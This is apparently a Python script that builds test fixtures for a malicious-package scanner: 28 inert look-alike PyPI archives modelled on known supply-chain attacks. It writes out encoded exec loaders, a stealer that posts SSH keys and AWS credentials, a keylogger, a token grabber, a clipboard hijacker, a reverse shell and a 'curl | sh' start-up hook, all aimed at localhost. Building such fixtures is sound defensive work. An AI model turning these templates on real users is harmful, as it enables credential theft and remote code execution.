"""Build the inert malicious look-alike archives under ``malicious/`` (committed outputs).

Each sample reproduces the *shape* of a documented real PyPI attack (where the code hides,
how it is encoded, what it reaches for) with an inert payload: the decoded code is
``import os; os.system('true')``, network sinks point at 127.0.0.1 port 9 (discard) and
nothing here is ever installed or imported. Run: ``python tests/assets/packages/build_samples.py``.

The archives are written deterministically (sorted members, fixed timestamps).
"""

from __future__ import annotations

import base64
import bz2
import codecs
import io
import json
import lzma
import marshal
import pickle
import struct
import sys
import tarfile
import zipfile
import zlib
from pathlib import Path

HERE = Path(__file__).resolve().parent
OUT = HERE / "malicious"
PAYLOAD = "import os; os.system('true')"
SINK = "http://127.0.0.1:9/collect"
MTIME = 1_700_000_000


def pkg_info(name: str, version: str, summary: str = "A helpful utility", extra: str = "") -> str:
    return (
        f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\nSummary: {summary}\n"
        f"Home-page: https://example.invalid/{name}\n{extra}\nA helpful utility.\n"
    )


def setup_py(name: str, version: str, body: str = "", extra_args: str = "") -> str:
    return (
        "from setuptools import setup, find_packages\n"
        f"{body}\n"
        f"setup(name={name!r}, version={version!r}, packages=find_packages(){extra_args})\n"
    )


def write_sdist(name: str, version: str, files: dict[str, str | bytes]) -> Path:
    root = f"{name}-{version}"
    target = OUT / f"{name}-{version}.tar.gz"
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w", format=tarfile.PAX_FORMAT) as archive:
        members = {"PKG-INFO": pkg_info(name, version), **files}
        for path in sorted(members):
            data = members[path]
            raw = data.encode() if isinstance(data, str) else data
            info = tarfile.TarInfo(f"{root}/{path}")
            info.size = len(raw)
            info.mtime = MTIME
            info.mode = 0o644
            archive.addfile(info, io.BytesIO(raw))
    import gzip

    target.write_bytes(gzip.compress(buffer.getvalue(), mtime=0))
    return target


def write_wheel(
    name: str,
    version: str,
    files: dict[str, str | bytes],
    entry_points: str = "",
    metadata_extra: str = "",
) -> Path:
    dist = f"{name.replace('-', '_')}-{version}"
    target = OUT / f"{dist}-py3-none-any.whl"
    members: dict[str, str | bytes] = dict(files)
    members[f"{dist}.dist-info/METADATA"] = pkg_info(name, version, extra=metadata_extra)
    members[f"{dist}.dist-info/WHEEL"] = (
        "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n"
    )
    if entry_points:
        members[f"{dist}.dist-info/entry_points.txt"] = entry_points
    members[f"{dist}.dist-info/RECORD"] = ""
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
        for path in sorted(members):
            data = members[path]
            info = zipfile.ZipInfo(path, date_time=(2023, 11, 14, 0, 0, 0))
            info.external_attr = 0o644 << 16
            info.compress_type = zipfile.ZIP_DEFLATED
            archive.writestr(info, data)
    return target


def b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def build() -> list[dict[str, str]]:
    OUT.mkdir(exist_ok=True)
    for old in OUT.iterdir():
        old.unlink()
    manifest: list[dict[str, str]] = []

    def add(path: Path, attack: str, surface: str) -> None:
        manifest.append({"file": path.name, "attack": attack, "surface": surface})

    # 1. base64 exec in setup.py (W4SP / "colourama"-style install-time dropper)
    add(
        write_sdist(
            "colourama",
            "0.4.7",
            {
                "setup.py": setup_py(
                    "colourama",
                    "0.4.7",
                    f"import base64\nexec(base64.b64decode('{b64(PAYLOAD)}'))\n",
                ),
                "colourama/__init__.py": "VERSION = '0.4.7'\n",
            },
        ),
        "base64 exec in setup.py (W4SP droppers, 2022)",
        "install",
    )

    # 2. zlib+base64 exec in __init__.py (import-time; many 2023 stealers)
    blob = base64.b64encode(zlib.compress(PAYLOAD.encode())).decode()
    add(
        write_wheel(
            "requestz-toolkit",
            "1.0.0",
            {
                "requestz_toolkit/__init__.py": f"import zlib, base64\n_c = zlib.decompress(base64.b64decode('{blob}'))\nexec(_c)\n",
            },
        ),
        "zlib+base64 exec at import",
        "import",
    )

    # 3. marshal-serialised code object executed at import (pyobfuscate-style)
    code = marshal.dumps(compile(PAYLOAD, "<x>", "exec"))
    add(
        write_wheel(
            "pyobfs-helper",
            "2.1.0",
            {
                "pyobfs_helper/__init__.py": f"import marshal, base64\nexec(marshal.loads(base64.b64decode('{base64.b64encode(code).decode()}')))\n",
            },
        ),
        "marshal code object at import",
        "import",
    )

    # 4. rot13 via codecs in setup.py
    add(
        write_sdist(
            "pandas-helperz",
            "0.1.0",
            {
                "setup.py": setup_py(
                    "pandas-helperz",
                    "0.1.0",
                    f"import codecs\nexec(codecs.decode({codecs.encode(PAYLOAD, 'rot13')!r}, 'rot13'))\n",
                ),
            },
        ),
        "rot13 exec in setup.py",
        "install",
    )

    # 5. reversed string
    add(
        write_sdist(
            "tlsclient-async",
            "1.2.0",
            {
                "setup.py": setup_py(
                    "tlsclient-async", "1.2.0", f"exec({PAYLOAD[::-1]!r}[::-1])\n"
                ),
            },
        ),
        "reversed-string exec in setup.py",
        "install",
    )

    # 6. chr() array joined then exec at import
    codes = ", ".join(str(ord(c)) for c in PAYLOAD)
    add(
        write_wheel(
            "discord-selfbot-utils",
            "3.0.1",
            {
                "discord_selfbot_utils/__init__.py": f"_k = [{codes}]\n_s = ''.join(chr(c) for c in _k)\neval(compile(_s, '<s>', 'exec'))\n",
            },
        ),
        "chr array + compile/eval at import",
        "import",
    )

    # 7. bytes.fromhex in a helper function called at import
    add(
        write_wheel(
            "fastapi-authlib",
            "0.3.0",
            {
                "fastapi_authlib/__init__.py": "def _load(h):\n    return bytes.fromhex(h).decode()\n\n"
                f"exec(_load({PAYLOAD.encode().hex()!r}))\n",
            },
        ),
        "hex decoding helper + exec at import",
        "import",
    )

    # 8. XOR loop decode
    key = 0x5A
    xored = [ord(c) ^ key for c in PAYLOAD]
    add(
        write_sdist(
            "numpy-utils-extra",
            "1.0.3",
            {
                "setup.py": setup_py(
                    "numpy-utils-extra",
                    "1.0.3",
                    f"_d = {xored!r}\n_p = ''.join(chr(b ^ {key}) for b in _d)\nexec(_p)\n",
                ),
            },
        ),
        "XOR-encoded payload in setup.py",
        "install",
    )

    # 9. Fernet-encrypted payload (W4SP stealer, 2022)
    from cryptography.fernet import Fernet

    fkey = base64.urlsafe_b64encode(bytes(range(32)))
    # fixed time and IV so that the committed archive is reproducible
    token = Fernet(fkey)._encrypt_from_parts(PAYLOAD.encode(), MTIME, bytes(16))
    add(
        write_sdist(
            "typesutil",
            "0.1.3",
            {
                "setup.py": setup_py(
                    "typesutil",
                    "0.1.3",
                    "from cryptography.fernet import Fernet\n"
                    f"exec(Fernet({fkey!r}).decrypt({token!r}))\n",
                ),
            },
        ),
        "Fernet-decrypted exec in setup.py (W4SP 2022)",
        "install",
    )

    # 10. cmdclass install override: download, write, run (e.g. "apicolor" droppers)
    add(
        write_sdist(
            "aiohttp-proxy-tools",
            "2.0.0",
            {
                "setup.py": (
                    "import os, subprocess, tempfile, urllib.request\n"
                    "from setuptools import setup\nfrom setuptools.command.install import install\n\n"
                    "class PostInstall(install):\n"
                    "    def run(self):\n"
                    "        install.run(self)\n"
                    f"        data = urllib.request.urlopen({SINK!r}).read()\n"
                    "        path = os.path.join(tempfile.gettempdir(), 'upd.bin')\n"
                    "        with open(path, 'wb') as fh:\n"
                    "            fh.write(data)\n"
                    "        subprocess.Popen([path])\n\n"
                    "setup(name='aiohttp-proxy-tools', version='2.0.0', cmdclass={'install': PostInstall})\n"
                ),
            },
        ),
        "cmdclass install: download + run",
        "install",
    )

    # 11. environment dump sent at import (2023 env-stealers, e.g. "requests-darwin-lite")
    add(
        write_wheel(
            "boto3-session-utils",
            "1.0.0",
            {
                "boto3_session_utils/__init__.py": f"import os, json, urllib.request\n"
                f"_r = urllib.request.Request({SINK!r}, data=json.dumps(dict(os.environ)).encode())\n"
                "urllib.request.urlopen(_r)\n",
            },
        ),
        "os.environ dumped to the network at import",
        "import",
    )

    # 12. SSH key + AWS credentials stealer in setup.py
    add(
        write_sdist(
            "setup-tools-ext",
            "1.0.0",
            {
                "setup.py": setup_py(
                    "setup-tools-ext",
                    "1.0.0",
                    "import os, requests\n"
                    "def grab():\n"
                    "    out = {}\n"
                    "    for p in ('~/.ssh/id_rsa', '~/.aws/credentials'):\n"
                    "        try:\n"
                    "            out[p] = open(os.path.expanduser(p)).read()\n"
                    "        except OSError:\n"
                    "            pass\n"
                    f"    requests.post({SINK!r}, json=out)\n"
                    "grab()\n",
                ),
            },
        ),
        "SSH and AWS credential theft at install",
        "install",
    )

    # 13. Discord token / browser stealer run at import in a thread
    add(
        write_wheel(
            "pycord-selfbot",
            "2.3.0",
            {
                "pycord_selfbot/__init__.py": "from pycord_selfbot import _grab\n_grab.start()\n",
                "pycord_selfbot/_grab.py": (
                    "import os, re, threading, urllib.request\n"
                    "ROAMING = os.getenv('APPDATA', '')\n"
                    "PATHS = [os.path.join(ROAMING, 'discord', 'Local Storage', 'leveldb'),\n"
                    "         os.path.join(ROAMING, 'Google/Chrome/User Data/Default/Local Storage/leveldb')]\n\n"
                    "def tokens():\n"
                    "    found = []\n"
                    "    for path in PATHS:\n"
                    "        if os.path.isdir(path):\n"
                    "            for name in os.listdir(path):\n"
                    "                found += re.findall(r'[\\w-]{24}\\.[\\w-]{6}\\.[\\w-]{27}', name)\n"
                    "    return found\n\n"
                    "def send():\n"
                    f"    urllib.request.urlopen({SINK!r}, data='\\n'.join(tokens()).encode())\n\n"
                    "def start():\n"
                    "    threading.Thread(target=send, daemon=True).start()\n"
                ),
            },
        ),
        "Discord/browser token stealer started at import",
        "import",
    )

    # 14. .pth file with encoded exec (runs at every interpreter start)
    add(
        write_wheel(
            "pip-cache-manager",
            "0.2.0",
            {
                "pip_cache_manager/__init__.py": "",
                "pip_cache_manager-init.pth": f"import base64; exec(base64.b64decode('{b64(PAYLOAD)}'))\n",
            },
        ),
        ".pth start-up exec",
        "startup",
    )

    # 15. sitecustomize.py shipped at the top level
    add(
        write_wheel(
            "pyenv-shims",
            "1.0.0",
            {
                "sitecustomize.py": f"import subprocess\nsubprocess.Popen('curl -s {SINK} | sh', shell=True)\n",
            },
        ),
        "sitecustomize.py start-up hook running curl | sh",
        "startup",
    )

    # 16. console script shadowing pip
    add(
        write_wheel(
            "pip-helper-tools",
            "0.0.9",
            {
                "pip_helper_tools/__init__.py": "def main():\n    pass\n",
            },
            entry_points="[console_scripts]\npip = pip_helper_tools:main\npython3 = pip_helper_tools:main\n",
        ),
        "console script shadows pip/python3",
        "runtime",
    )

    # 17. in-tree PEP 517 backend doing network at build time
    add(
        write_sdist(
            "flask-login-ext",
            "0.6.4",
            {
                "pyproject.toml": (
                    "[build-system]\nrequires = []\nbuild-backend = 'backend'\nbackend-path = ['_build']\n"
                ),
                "_build/backend.py": (
                    "import socket, getpass\n"
                    "def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):\n"
                    "    s = socket.create_connection(('127.0.0.1', 9))\n"
                    "    s.sendall(getpass.getuser().encode())\n"
                    "    return ''\n"
                ),
            },
        ),
        "in-tree build backend phoning home",
        "install",
    )

    # 18. sourceless .pyc
    import importlib.util

    pyc = (
        importlib.util.MAGIC_NUMBER + b"\x00" * 12 + marshal.dumps(compile(PAYLOAD, "<x>", "exec"))
    )
    add(
        write_wheel(
            "libcrypto-helpers",
            "1.1.0",
            {
                "libcrypto_helpers/__init__.py": "from libcrypto_helpers import core\n",
                "libcrypto_helpers/core.pyc": pyc,
            },
        ),
        "sourceless bytecode module",
        "import",
    )

    # 19. malicious pickle loaded at import
    class _Reduce:
        def __reduce__(self) -> tuple[object, tuple[str]]:
            import os

            return (os.system, ("true",))

    add(
        write_wheel(
            "ml-model-cache",
            "0.4.0",
            {
                "ml_model_cache/__init__.py": "import os, pickle\n_here = os.path.dirname(__file__)\n"
                "with open(os.path.join(_here, 'cache.pkl'), 'rb') as fh:\n    STATE = pickle.load(fh)\n",
                "ml_model_cache/cache.pkl": pickle.dumps(_Reduce(), protocol=4),
            },
        ),
        "pickle with os.system loaded at import",
        "import",
    )

    # 20. payload appended to a PNG, decoded and run at import (2023 image stego attacks)
    png = (
        b"\x89PNG\r\n\x1a\n"
        + struct.pack(">I", 13)
        + b"IHDR"
        + struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
        + struct.pack(">I", zlib.crc32(b"IHDR" + struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)))
        + struct.pack(">I", 0)
        + b"IEND"
        + struct.pack(">I", zlib.crc32(b"IEND"))
    )
    add(
        write_wheel(
            "apicolour",
            "1.2.2",
            {
                "apicolour/__init__.py": (
                    "import os, base64\n"
                    "_p = os.path.join(os.path.dirname(__file__), 'logo.png')\n"
                    "_d = open('logo.png', 'rb').read()\n"
                    "exec(base64.b64decode(_d[_d.rfind(b'IEND') + 8:]))\n"
                ),
                "apicolour/logo.png": png + base64.b64encode(PAYLOAD.encode()) * 4,
            },
        ),
        "code appended to a PNG, decoded and executed at import",
        "import",
    )

    # 21. dependency confusion: internal-looking name, absurd version, beacon at install
    add(
        write_sdist(
            "acme-internal-billing",
            "99.0.0",
            {
                "setup.py": setup_py(
                    "acme-internal-billing",
                    "99.0.0",
                    "import socket, getpass, urllib.request\n"
                    f"urllib.request.urlopen({SINK!r} + '?h=' + socket.gethostname()"
                    " + '&u=' + getpass.getuser())\n",
                ),
            },
        ),
        "dependency confusion beacon at install",
        "install",
    )

    # 22. clipboard hijacker (crypto clipper) started at import
    add(
        write_wheel(
            "solana-walletkit",
            "0.9.1",
            {
                "solana_walletkit/__init__.py": (
                    "import threading, time, pyperclip\n"
                    "def _watch():\n"
                    "    while True:\n"
                    "        if pyperclip.paste().startswith('bc1'):\n"
                    "            pyperclip.copy('bc1qattacker')\n"
                    "        time.sleep(1)\n"
                    "threading.Thread(target=_watch, daemon=True).start()\n"
                ),
            },
        ),
        "clipboard wallet hijacker at import",
        "import",
    )

    # 23. reverse shell in setup.py
    add(
        write_sdist(
            "djangoo",
            "4.2.1",
            {
                "setup.py": setup_py(
                    "djangoo",
                    "4.2.1",
                    "import socket, os, pty\n"
                    "s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\n"
                    "s.connect(('127.0.0.1', 9))\n"
                    "os.dup2(s.fileno(), 0); os.dup2(s.fileno(), 1); os.dup2(s.fileno(), 2)\n"
                    "pty.spawn('/bin/true')\n",
                ),
            },
        ),
        "reverse shell at install",
        "install",
    )

    # 24. getattr(builtins, 'exec') with aliases
    add(
        write_sdist(
            "pyyaml-loader",
            "6.0.2",
            {
                "setup.py": setup_py(
                    "pyyaml-loader",
                    "6.0.2",
                    "import builtins, base64\n_d = base64.b64decode\n"
                    f"getattr(builtins, 'exec')(_d('{b64(PAYLOAD)}'))\n",
                ),
            },
        ),
        "exec reached through getattr and an alias",
        "install",
    )

    # 25. payload hidden under tests/ and imported by the package
    add(
        write_wheel(
            "matplotlib-themes-pro",
            "0.1.0",
            {
                "matplotlib_themes_pro/__init__.py": "from matplotlib_themes_pro.tests import conftest\n",
                "matplotlib_themes_pro/tests/__init__.py": "",
                "matplotlib_themes_pro/tests/conftest.py": f"import base64\nexec(base64.b64decode('{b64(PAYLOAD)}'))\n",
            },
        ),
        "payload hidden in tests/",
        "import",
    )

    # 26. PowerShell encoded download cradle at install (Windows-targeted)
    add(
        write_sdist(
            "selenium-stealth-driver",
            "1.0.6",
            {
                "setup.py": setup_py(
                    "selenium-stealth-driver",
                    "1.0.6",
                    "import os, sys\nif sys.platform == 'win32':\n"
                    "    os.system('powershell -WindowStyle Hidden -enc SQBFAFgA')\n",
                ),
            },
        ),
        "hidden PowerShell at install",
        "install",
    )

    # 27. keylogger at import sending keystrokes
    add(
        write_wheel(
            "pynput-hotkeys",
            "1.0.2",
            {
                "pynput_hotkeys/__init__.py": (
                    "import requests\nfrom pynput import keyboard\n"
                    "_buf = []\n"
                    "def _on(key):\n"
                    "    _buf.append(str(key))\n"
                    f"    if len(_buf) > 50:\n        requests.post({SINK!r}, data=''.join(_buf))\n"
                    "keyboard.Listener(on_press=_on).start()\n"
                ),
            },
        ),
        "keylogger started at import",
        "import",
    )

    # 28. lzma + bz2 layered payload via __import__
    layered = base64.b64encode(bz2.compress(lzma.compress(PAYLOAD.encode()))).decode()
    add(
        write_wheel(
            "tensorflow-addons-lite",
            "0.23.0",
            {
                "tensorflow_addons_lite/__init__.py": (
                    f"_m = __import__('lzma').decompress(__import__('bz2').decompress("
                    f"__import__('base64').b64decode('{layered}')))\n"
                    "__import__('builtins').exec(_m)\n"
                ),
            },
        ),
        "lzma+bz2+base64 via __import__ at import",
        "import",
    )

    (HERE / "malicious.json").write_text(json.dumps(manifest, indent=1) + "\n")
    return manifest


if __name__ == "__main__":
    samples = build()
    sys.stderr.write(f"wrote {len(samples)} samples to {OUT}\n")
